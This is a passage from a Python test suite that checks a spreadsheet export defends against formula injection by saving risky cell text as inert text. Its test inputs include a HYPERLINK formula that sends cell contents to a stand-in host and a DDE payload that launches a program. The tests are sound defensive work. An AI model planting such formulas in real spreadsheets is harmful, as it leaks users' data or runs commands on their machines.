    for row, text in ((3, '=HYPERLINK("http://example.invalid/?"&A3,"see")'), (4, "@SUM(1+1)")):
        cell = book["List_1"].cell(row, 7)
        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)
    with zipfile.ZipFile(io.BytesIO(copy)) as archive:
        assert not any(b"<f>" in archive.read(part) for part in archive.namelist() if "worksheets/" in part)


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        " =1",
        "-",
        "=cmd|' /C calc'!A0",
        "+44 20 7946 0000",
        "＝1",
    ],
)
def test_text_that_a_spreadsheet_would_run_is_held_as_text_in_csv(text: str) -> None:
    table = pd.DataFrame({"=header": [text], "n": [-5]})
    read = list(csv.reader(io.StringIO(csv_file(table).decode("utf-8-sig"), newline="")))
    assert read == [["'=header", "n"], [f"'{text}", "-5"]]


@pytest.mark.parametrize("text", ["-5", "-5.2%", "+3", "-1,234.5", "plain", "a=b", "", "31/12/2022", "1E-5"])
def test_numbers_and_plain_texts_stay_as_they_are(text: str) -> None:
    assert safe_text(text) == text


def test_numbers_dates_and_empty_cells_are_written_to_csv_as_before() -> None:
    table = pd.DataFrame(
        {
            "value": [-1.5, None],
            "count": pd.array([-3, None], dtype="Int64"),
            "day": pd.to_datetime(["2022-12-31", None]),
            "words": ["a", None],
        }
    )
    assert csv_file(table).decode("utf-8-sig") == "value,count,day,words\r\n-1.5,-3,2022-12-31,a\r\n,,,\r\n"


def test_every_table_that_is_downloaded_is_written_safely() -> None:
    root = Path(__file__).parents[2]
    writers = [
        path.name
        for folder in ("components", "pages", "data")
        for path in (root / folder).rglob("*.py")
        if re.search(r"\.to_csv\(|\.to_excel\(", path.read_text())
        and path.name not in ("safe_text.py", "rebuild.py")
    ]
    assert writers == []


def test_problems_listed_in_a_marked_copy_are_texts_whatever_they_quote(store: Store) -> None:
    content = io.BytesIO()
    with xlsxwriter.Workbook(content) as book:
        sheet = book.add_worksheet("List_1")
        for number, row in enumerate(
            rows_of_list(
                "contacts",
                contact("1", "2022-10-03", "=1+1"),
                contact("2", "2022-10-04", "-2+3"),
                contact("3", "+x"),
            )
        ):
            for column, value in enumerate(row):
                if value is not None:
                    sheet.write_string(number, column, str(value))
    report = store.preview("a.xlsx", content.getvalue(), TO)
    copy = openpyxl.load_workbook(io.BytesIO(marked_copy("a.xlsx", content.getvalue(), report)))
    assert {"=1+1", "-2+3", "+x"} <= {row[4].value for row in copy["Problems found"].iter_rows()}
    assert all(
        cell.data_type != "f" for sheet in copy.worksheets for row in sheet.iter_rows() for cell in row
    )


def test_reading_gives_the_same_cells_as_ever_beside_what_is_hidden() -> None:
    (sheet,) = open_workbook("a.xlsx", GOOD)
    assert (sheet.cells.num_rows, sheet.hidden, sheet.hidden_rows, sheet.uncalculated) == (14, "", (), ())
